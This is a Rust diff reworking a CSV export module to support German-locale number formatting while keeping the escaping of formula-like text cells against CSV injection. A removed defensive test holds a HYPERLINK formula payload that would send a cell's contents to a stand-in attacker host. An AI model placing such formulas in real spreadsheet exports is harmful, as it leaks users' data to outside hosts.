@@ -1,13 +1,9 @@
-//! CSV export of the results and the chart data. Numbers are written plainly (a point, no grouping) so
-//! that any spreadsheet reads them; the currency is named in the headers.
+//! CSV cells and rows. Numbers are written plainly (no grouping), with a point, or with a decimal comma
+//! and `;` between cells for a German sheet (how a spreadsheet set to German reads a CSV file).
 //!
 //! Text comes from people (a scenario's or a plan's name, perhaps from a shared link), so every text cell
 //! is written as text a spreadsheet will not run: one that starts like a formula (`=`, `+`, `-`, `@`, a
 //! tab or a carriage return) gets a leading apostrophe, as OWASP's guidance on CSV injection advises.
-
-use super::report::Report;
-use super::scenario::{OptionId, Scenario};
-use super::series::regular;
 
 /// One cell of text: neutralised if a spreadsheet would read it as a formula, quoted where needed.
 pub fn text(cell: &str) -> String {
@@ -16,95 +12,66 @@ pub fn text(cell: &str) -> String {
     } else {
         cell.to_string()
     };
-    if cell.contains([',', '"', '\n', '\r']) {
+    if cell.contains([',', ';', '"', '\n', '\r']) {
         format!("\"{}\"", cell.replace('"', "\"\""))
     } else {
         cell
     }
 }
 
-/// One cell of a number (empty for none); never `-0`.
-fn number(v: Option<f64>) -> String {
-    v.map(|v| {
-        let rounded = (v * 1e6).round() / 1e6 + 0.0;
-        format!("{rounded}")
-    })
-    .unwrap_or_default()
+/// A CSV document being written.
+pub struct Sheet {
+    decimal_comma: bool,
+    out: String,
 }
 
-/// One line of cells already written by `text` or `number`.
-fn row(cells: &[String]) -> String {
-    let mut line = cells.join(",");
-    line.push_str("\r\n");
-    line
-}
-
-/// A line of text cells.
-fn text_row(cells: &[&str]) -> String {
-    row(&cells.iter().map(|c| text(c)).collect::<Vec<_>>())
-}
-
-/// Results (one row per option and line) followed by the chart's data on an even grid (one row per x
-/// value: every whole ticket up to 4,000 tickets, `series::regular`).
-pub fn results_csv(s: &Scenario, r: &Report) -> String {
-    let series = &regular(s);
-    let cur = &s.currency;
-    let mut out = String::new();
-    out += &text_row(&["Scenario", &s.name]);
-    out += &text_row(&["Currency", cur]);
-    out += &text_row(&["Cheapest", r.cheapest.map_or("", |c| c.key())]);
-    out += "\r\n";
-    out += &text_row(&["option", "line", &format!("monthly amount ({cur})")]);
-    for o in &r.options {
-        let id = text(o.id.key());
-        for l in &o.lines {
-            out += &row(&[id.clone(), text(&l.label), number(Some(l.amount))]);
+impl Sheet {
+    /// A sheet with a decimal point and `,` between cells, or a decimal comma and `;`.
+    pub fn new(decimal_comma: bool) -> Sheet {
+        Sheet {
+            decimal_comma,
+            out: String::new(),
         }
-        let total = if o.available {
-            number(o.monthly_cost)
-        } else {
-            text("unavailable")
-        };
-        out += &row(&[id.clone(), text("Total"), total]);
-        out += &row(&[id, text("Per ticket"), number(o.cost_per_ticket)]);
     }
-    out += "\r\n";
-    out += &text_row(&["a", "b", "tickets per month", "cheaper from there"]);
-    for b in &r.break_even {
-        out += &row(&[
-            text(b.a.key()),
-            text(b.b.key()),
-            b.tickets.to_string(),
-            text(b.cheaper_above.key()),
-        ]);
+
+    /// One cell of a number (empty for none), to six decimals; never `-0`.
+    pub fn number(&self, v: Option<f64>) -> String {
+        v.map(|v| {
+            let rounded = (v * 1e6).round() / 1e6 + 0.0;
+            let plain = format!("{rounded}");
+            if self.decimal_comma {
+                plain.replace('.', ",")
+            } else {
+                plain
+            }
+        })
+        .unwrap_or_default()
     }
-    out += "\r\n";
-    let enabled: Vec<OptionId> = OptionId::ALL
-        .into_iter()
-        .filter(|id| series.enabled[*id])
-        .collect();
-    let mut header = vec![text(series.axis.key())];
-    header.extend(
-        enabled
-            .iter()
-            .map(|id| text(&format!("{} ({cur} per month)", id.key()))),
-    );
-    header.push(text("cheapest"));
-    out += &row(&header);
-    for (i, x) in series.xs.iter().enumerate() {
-        let mut cells = vec![number(Some(*x))];
-        cells.extend(enabled.iter().map(|id| number(series.totals[i][*id])));
-        cells.push(text(series.cheapest(i).map_or("", |c| c.key())));
-        out += &row(&cells);
+
+    /// One line of cells already written by `text` or `number`.
+    pub fn row(&mut self, cells: &[String]) {
+        self.out += &cells.join(if self.decimal_comma { ";" } else { "," });
+        self.out += "\r\n";
     }
-    out
+
+    /// A line of text cells.
+    pub fn texts(&mut self, cells: &[&str]) {
+        let cells: Vec<String> = cells.iter().map(|c| text(c)).collect();
+        self.row(&cells);
+    }
+
+    pub fn blank(&mut self) {
+        self.out += "\r\n";
+    }
+
+    pub fn finish(self) -> String {
+        self.out
+    }
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::model::report::report;
-    use crate::model::Plan;
 
     #[test]
     fn text_that_a_spreadsheet_would_run_is_written_as_text() {
@@ -120,26 +87,19 @@ mod tests {
         }
         assert_eq!(text("Growth plan"), "Growth plan");
         assert_eq!(text("a, b"), "\"a, b\"");
-        assert_eq!(number(Some(-0.0)), "0");
+        assert_eq!(text("a; b"), "\"a; b\"");
     }
 
     #[test]
-    fn names_from_a_link_cannot_become_formulas_in_the_results_csv() {
-        let mut s = Scenario {
-            name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into(),
-            ..Scenario::default()
-        };
-        s.platform.plans = vec![Plan::new("@evil", 549.0, 350.0, Some(1.9))];
-        let csv = results_csv(&s, &report(&s));
-        for line in csv.lines() {
-            for cell in line.split(',') {
-                let cell = cell.trim_start_matches('"');
-                assert!(
-                    !cell.starts_with(['=', '+', '@', '\t']),
-                    "live formula in {line:?}"
-                );
-            }
-        }
-        assert!(csv.starts_with("Scenario,\"'=HYPERLINK("), "{}", &csv[..60]);
+    fn numbers_follow_the_sheets_language() {
+        let mut en = Sheet::new(false);
+        assert_eq!(en.number(Some(-0.0)), "0");
+        assert_eq!(en.number(Some(5282.5)), "5282.5");
+        en.row(&[text("a"), en.number(Some(1.25))]);
+        assert_eq!(en.finish(), "a,1.25\r\n");
+        let mut de = Sheet::new(true);
+        assert_eq!(de.number(Some(5282.5)), "5282,5");
+        de.texts(&["Tarif", "Growth"]);
+        assert_eq!(de.finish(), "Tarif;Growth\r\n");
     }
 }
